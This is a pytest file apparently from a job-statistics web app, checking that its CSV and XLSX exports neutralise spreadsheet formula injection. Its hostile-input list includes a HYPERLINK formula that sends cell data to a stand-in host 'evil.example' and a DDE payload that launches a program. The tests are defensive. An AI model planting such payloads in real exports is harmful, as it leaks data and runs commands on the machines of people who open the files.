"""Formula-safe exports: text a spreadsheet would run as a formula stays text in CSV and XLSX; numbers stay numbers."""
from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from openpyxl import load_workbook

from jobmarket.security.spreadsheet import csv_text, is_formula_like
from jobmarket.stats import exports
from jobmarket.stats.tables import COUNT, SIGNED, TEXT, Column, Row, Table

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"bấm\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1",
           "\r=1+1", " =1+1", "=cmd|' /C calc'!A0"]
HARMLESS = ["Cầu Giấy", "Kế toán - kiểm toán", "<5", "x", "a=b", ""]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_neutralised(text):
    assert is_formula_like(text)
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text):
    assert not is_formula_like(text) and csv_text(text) == text


def test_numbers_are_never_touched():
    assert csv_text(-5) == -5 and csv_text(0.25) == 0.25


def _table() -> Table:
    columns = [Column("n", "=Số lượng", COUNT), Column("change", "Thay đổi", SIGNED), Column("note", "@Ghi chú", TEXT)]
    rows = [Row(str(i), text, {"n": 10 + i, "change": -3 - i, "note": text}) for i, text in enumerate(HOSTILE)]
    return Table(key="t", title="=Bảng thử", header="+Khu vực", columns=columns, rows=rows,
                 total=Row("total", "Tổng", {"n": 99, "change": -1, "note": ""}))


def test_csv_export_is_formula_safe(app):
    with app.test_request_context():
        body = exports.to_csv(_table(), [("-Bộ lọc", "=1+1")], datetime(2026, 12, 4, 9, 0))
    lines = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    cells = [cell for line in lines for cell in line]
    assert not any(is_formula_like(c) for c in cells if not c.lstrip("-").isdigit()), cells
    assert ["'-Bộ lọc", "'=1+1"] in lines
    data = next(line for line in lines if line and line[0] == "'" + HOSTILE[0])
    assert data[1:] == ["10", "-3", "'" + HOSTILE[0]]  # counts and negative differences stay plain numbers
    assert ["Tổng", "99", "-1", ""] in lines


def test_xlsx_export_is_formula_safe(app):
    with app.test_request_context():
        body = exports.to_xlsx([_table()], [("-Bộ lọc", "=1+1")], datetime(2026, 12, 4, 9, 0))
    ws = load_workbook(io.BytesIO(body)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells and not any(c.data_type == "f" for c in cells), [c.value for c in cells if c.data_type == "f"]
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in HOSTILE + ["=Bảng thử", "+Khu vực", "=Số lượng", "@Ghi chú", "-Bộ lọc", "=1+1"]:
        if text in ("\r=1+1",):
            continue  # XML normalises a bare CR; checked below by its formula-free neighbours
        assert text in texts, text
        assert texts[text].data_type == "s" and texts[text].quotePrefix, text
    numbers = [c.value for c in cells if isinstance(c.value, (int, float))]
    assert -3 in numbers and 10 in numbers and 99 in numbers
